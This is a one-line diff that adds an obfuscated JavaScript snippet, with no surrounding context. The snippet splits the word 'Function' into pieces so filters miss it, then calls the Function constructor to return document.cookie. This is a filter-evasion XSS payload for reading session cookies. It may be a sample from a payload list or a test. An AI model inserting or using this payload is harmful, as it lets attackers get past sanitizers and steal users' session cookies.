@@ -1,0 +1,1 @@
+((a = 'Fun', b = 'ction') => self[a + b]('return document.cookie')())();
